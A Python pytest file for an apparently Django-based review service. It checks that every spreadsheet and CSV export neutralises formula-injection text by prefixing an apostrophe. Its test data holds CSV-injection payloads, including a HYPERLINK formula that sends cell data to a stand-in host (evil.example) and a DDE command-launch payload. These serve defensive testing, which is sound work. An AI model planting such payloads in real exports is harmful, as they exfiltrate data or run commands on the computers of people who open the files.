"""Every spreadsheet and CSV the service writes, opened and searched: no formula anywhere, and
agencies' text that could start one kept as text behind an apostrophe (issue 15, point 1).

The hostile text goes in the way an attacker with an agency account would put it: in a
chronology file uploaded through the pages, then read back through every export URL.
A new export URL (a route or a name with "xlsx", "csv" or "export") fails
``test_every_export_url_is_opened_here`` until it is added to ``EXPORTS`` (or, for a
non-spreadsheet such as a PDF, to ``NOT_SPREADSHEETS``).
"""

import csv
import io
import re
import zipfile
from pathlib import Path
from urllib.parse import urlencode

import openpyxl
import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from dhr.files.spreadsheets import FORMULA_STARTS
from panels.chronology import combined
from panels.contributions import services as contributions
from tests.panels import conftest as panel_fixtures
from tests.panels.conftest import HEADINGS, csv_upload

# The panel tests' fixtures, shared here.
cast = panel_fixtures.cast
media_root = panel_fixtures.media_root
panel = panel_fixtures.panel

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Details")',
    '\t=HYPERLINK("http://evil.example/","x")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
]

# URL name -> (what to call it with, the format). Every export of the service is here.
EXPORTS = {
    "panels:chronology_xlsx": ({}, "xlsx"),
    "panels:chronology_template xlsx": ({"file_format": "xlsx"}, "xlsx"),
    "panels:chronology_template csv": ({"file_format": "csv"}, "csv"),
}
# The exports of the later apps, each opened by a user who may download it: URL name ->
# (who, URL arguments, query, the format). The planted hostile text is in ``hostile_records``.
OTHER_EXPORTS = {
    "actionplans:plan_xlsx": ("manager", "review", {}, "xlsx"),
    "publications:home_office_review_export": ("manager", "xlsx", {}, "xlsx"),
    "publications:home_office_exports xlsx": (
        "administrator",
        None,
        {
            "download": "1",
            "date_from": "01/01/2000",
            "date_to": "31/12/2099",
            "file_format": "xlsx",
        },
        "xlsx",
    ),
    "publications:home_office_exports csv": (
        "administrator",
        None,
        {"download": "1", "date_from": "01/01/2000", "date_to": "31/12/2099", "file_format": "csv"},
        "csv",
    ),
    "users:export": ("administrator", None, {}, "xlsx"),
    "dhr:dashboard_csv": ("steering", "every figure", {}, "csv"),
    "dhr:annual_report": ("steering", None, {"year": "2026", "format": "xlsx"}, "xlsx"),
}
NOT_SPREADSHEETS = {
    "panels:chronology_pdf",  # a PDF made by WeasyPrint from escaped HTML
    "actionplans:plan_pdf",  # likewise
    "panels:chronology_exports",  # the page listing background PDFs
    "panels:chronology_export_download",  # one of those PDFs
}


def _url_patterns(resolver=None, namespace=""):
    for entry in (resolver or get_resolver()).url_patterns:
        if isinstance(entry, URLResolver):
            inner = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
            yield from (
                (name, str(entry.pattern) + route) for name, route in _url_patterns(entry, inner)
            )
        elif isinstance(entry, URLPattern) and entry.name:
            yield f"{namespace}{entry.name}", str(entry.pattern)


def test_every_export_url_is_opened_here():
    listed = {key.split(" ")[0] for key in (*EXPORTS, *OTHER_EXPORTS)} | NOT_SPREADSHEETS
    exports = {
        name
        for name, route in _url_patterns()
        if re.search(r"xlsx|csv|export|file_format", route + " " + name)
        and not name.startswith("admin:")
    }
    assert exports - listed == set(), "add the new export to EXPORTS in this file"


def test_no_code_but_the_one_writer_writes_a_workbook_or_a_csv():
    root = Path(__file__).resolve().parents[2]
    writers = re.compile(r"csv\.writer|csv\.DictWriter|\bWorkbook\(|write_only=True")
    offenders = []
    for path in root.glob("*/**/*.py"):
        relative = path.relative_to(root).as_posix()
        if relative.startswith((".venv/", "node_modules/", "tests/", "var/")):
            continue
        if relative == "dhr/files/spreadsheets.py":
            continue
        if writers.search(path.read_text(encoding="utf-8")):
            offenders.append(relative)
    assert offenders == []


@pytest.fixture
def hostile_chronology(panel):
    """The police's submitted chronology, every event and comment hostile, and a hostile
    annotation by the chair."""
    request = panel.ask()
    rows = [HEADINGS]
    for number, text in enumerate(HOSTILE, start=1):
        rows.append([f"{number:02d}/03/2021", "", f"-REF-{number}", text, "@action", text, "+PC"])
    panel.import_chronology(request, csv_upload(rows))
    entry = combined.submitted_entries(panel.review).first()
    combined.annotate(panel.review, entry, by=panel.chair, text="=1+1 note")
    return panel


def _cells_of_workbook(content: bytes) -> list:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode()
                assert not re.search(r"<(\w+:)?f[ >/]", xml), f"a formula element in {name}"
    workbook = openpyxl.load_workbook(io.BytesIO(content))  # formulas kept as formulas
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if cell.value is not None:
                    cells.append(cell.value)
    return cells


def _cells_of_csv(content: bytes) -> list:
    text = content.decode("utf-8-sig")
    return [value for row in csv.reader(io.StringIO(text)) for value in row if value]


@pytest.mark.parametrize("key", EXPORTS)
def test_every_export_holds_no_formula_and_guards_hostile_text(hostile_chronology, client, key):
    seen = hostile_chronology
    arguments, file_format = EXPORTS[key]
    client.force_login(seen.chair)
    response = client.get(
        reverse(key.split(" ")[0], kwargs={"reference": seen.review.reference, **arguments})
    )
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"

    cells = (
        _cells_of_workbook(response.content)
        if file_format == "xlsx"
        else _cells_of_csv(response.content)
    )
    assert cells, "the export is empty"
    for value in cells:
        if isinstance(value, str):
            assert not value.startswith(FORMULA_STARTS), f"unguarded cell {value!r}"
    if key == "panels:chronology_xlsx":
        texts = {value for value in cells if isinstance(value, str)}
        for hostile in HOSTILE:
            assert "'" + hostile in texts  # kept as typed, behind the apostrophe
        assert {"'-REF-1", "'@action", "'+PC"} <= texts
        assert any("=1+1 note" in value for value in texts)


def test_an_import_keeps_a_tab_before_an_equals_sign(hostile_chronology):
    events = list(
        combined.submitted_entries(hostile_chronology.review)
        .order_by("date")
        .values_list("event", flat=True)
    )
    assert events == HOSTILE  # nothing stripped into a bare "=..."


def test_the_original_file_comes_with_a_warning_and_only_for_those_who_may_see_it(
    hostile_chronology, client
):
    seen = hostile_chronology
    request = seen.review.contribution_requests.get()
    version = contributions.current_version(request)
    detail = reverse("panels:contribution", args=[seen.review.reference, request.pk])
    download = reverse(
        "panels:contribution_download", args=[seen.review.reference, request.pk, version.pk]
    )
    client.force_login(seen.health_member)
    page = client.get(detail).content.decode()
    assert download in page
    assert "the original from Kent Police, unchanged" in page
    assert client.get(download).status_code == 200
    client.force_login(seen.chair)
    assert "the original from Kent Police, unchanged" in client.get(detail).content.decode()


@pytest.fixture
def hostile_records(hostile_chronology, administrator):
    """Hostile text wherever an agency, a chair or a manager can type it into the later apps'
    records: a recommendation, its action, a person's name."""
    from actionplans.recommendations import services as plans
    from dhr.accounts.roles import Role
    from tests.actionplans.factories import agreed_recommendation
    from tests.dhr.factories import UserFactory

    seen = hostile_chronology
    recommendation, _ = agreed_recommendation(
        seen.review, by=seen.manager, agency=seen.police, text=HOSTILE[0]
    )
    plans.add_action(
        recommendation,
        by=seen.manager,
        description=HOSTILE[4],
        lead_agency=seen.police,
        target_date=seen.review.notified_on.replace(year=seen.review.notified_on.year + 1),
    )
    UserFactory(full_name=HOSTILE[1], role=Role.CHAIR)
    partnership = seen.review.partnership
    return {
        "seen": seen,
        "manager": seen.manager,
        "administrator": administrator,
        "steering": UserFactory(
            full_name="Sam Steering", role=Role.STEERING_GROUP, partnerships=[partnership]
        ),
    }


def _other_export_urls(key, records) -> list[str]:
    from dhr.dashboard import services as dashboard
    from dhr.dashboard.scope import Scope, partnerships_for

    who, arguments, query, _ = OTHER_EXPORTS[key]
    name = key.split(" ")[0]
    review = records["seen"].review
    if arguments == "every figure":
        user = records[who]
        scope = Scope(user=user, partnership_ids=tuple(p.pk for p in partnerships_for(user)))
        keys = [figure.key for built in dashboard.build_all(scope) for figure in built.figures]
        assert keys, "the dashboard has no figures"
        return [reverse(name, args=[figure]) for figure in keys]
    if name == "dhr:annual_report":
        query = query | {"partnership": review.partnership.pk}
    kwargs = {}
    if arguments == "review":
        kwargs = {"reference": review.reference}
    elif arguments in ("xlsx", "csv"):
        kwargs = {"reference": review.reference, "file_format": arguments}
    url = reverse(name, kwargs=kwargs)
    return [url + ("?" + urlencode(query) if query else "")]


@pytest.mark.parametrize("key", OTHER_EXPORTS)
def test_every_later_export_holds_no_formula_and_guards_hostile_text(hostile_records, client, key):
    who, _, _, file_format = OTHER_EXPORTS[key]
    client.force_login(hostile_records[who])
    everything = []
    for url in _other_export_urls(key, hostile_records):
        response = client.get(url)
        assert response.status_code == 200, url
        assert response["Content-Disposition"].startswith("attachment"), url
        cells = (
            _cells_of_workbook(response.content)
            if file_format == "xlsx"
            else _cells_of_csv(response.content)
        )
        assert cells, f"the export {url} is empty"
        everything += cells
    for value in everything:
        if isinstance(value, str):
            assert not value.startswith(FORMULA_STARTS), f"unguarded cell {value!r} in {key}"
    texts = {value for value in everything if isinstance(value, str)}
    planted = {
        "actionplans:plan_xlsx": ["'" + HOSTILE[0], "'" + HOSTILE[4]],
        "users:export": ["'" + HOSTILE[1]],
    }.get(key.split(" ")[0], [])
    for hostile in planted:
        assert hostile in texts  # kept as typed, behind the apostrophe
